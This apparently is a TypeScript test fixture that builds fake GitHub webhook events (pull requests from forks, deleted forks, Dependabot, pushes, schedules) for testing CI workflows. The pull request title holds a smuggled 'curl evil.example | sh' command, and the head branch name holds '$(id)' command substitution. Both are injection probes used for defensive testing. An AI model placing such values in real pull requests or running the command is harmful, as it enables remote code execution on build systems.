/** Events as GitHub sends them, cut to what workflows and scripts could read; names and numbers are generated. */
import { randomBytes, randomInt } from "node:crypto";

const word = () => randomBytes(6).toString("hex");
const sha = () => randomBytes(20).toString("hex");

/** The repository that all events are of. */
export const repository = `kairos-${word()}/infrastructure`;

/** A pull request. @param from the head's repository; null when it has been deleted */
export function pullRequest(from: string | null = repository, login = `user-${word()}`) {
  const number = randomInt(1, 10_000);
  return {
    action: "synchronize",
    number,
    pull_request: {
      number,
      // What an attacker would try.
      title: '"; curl evil.example | sh #',
      draft: false,
      user: { login, type: login.endsWith("[bot]") ? "Bot" : "User" },
      author_association: from === repository ? "MEMBER" : "FIRST_TIME_CONTRIBUTOR",
      head: {
        ref: "$(id)`id`",
        sha: sha(),
        repo: from === null ? null : { full_name: from, fork: from !== repository },
      },
      base: { ref: "main", sha: sha(), repo: { full_name: repository, fork: false } },
      changed_files: 3,
    },
    repository: { full_name: repository, default_branch: "main", fork: false },
    sender: { login, type: "User" },
  };
}

/** The context `github` of a workflow that an event started. */
export function github(name: string, event: object, ref = "refs/heads/main") {
  const number = (event as { number?: number }).number;
  return {
    event_name: name,
    event,
    repository,
    ref: name === "pull_request" ? `refs/pull/${number}/merge` : ref,
    actor: "somebody",
    token: "",
  };
}

/** Something happened to a pull request, which has these labels now. @param label what was put on or taken off */
export const pullRequestWas = (
  action: string,
  { from = repository, login, labels = [], label }: PullRequestEvent = {},
) => {
  const event = pullRequest(from, login);
  return {
    ...event,
    action,
    pull_request: { ...event.pull_request, labels: labels.map((name) => ({ name })) },
    ...(label !== undefined && { label: { name: label } }),
  };
};
interface PullRequestEvent {
  from?: string | null;
  login?: string;
  labels?: string[];
  label?: string;
}

export const own = () => pullRequest();
/** A repository of somebody else's. */
export const stranger = () => `stranger-${word()}/infrastructure`;
export const fork = () => pullRequest(stranger());
/** A fork that has been deleted since. */
export const deletedFork = () => pullRequest(null);
export const bot = "dependabot[bot]";
export const dependabot = () => pullRequest(repository, bot);
export const push = () => ({ ref: "refs/heads/main", after: sha(), repository: { full_name: repository } });
export const schedule = (cron = "17 3 * * *") => ({ schedule: cron, repository: { full_name: repository } });
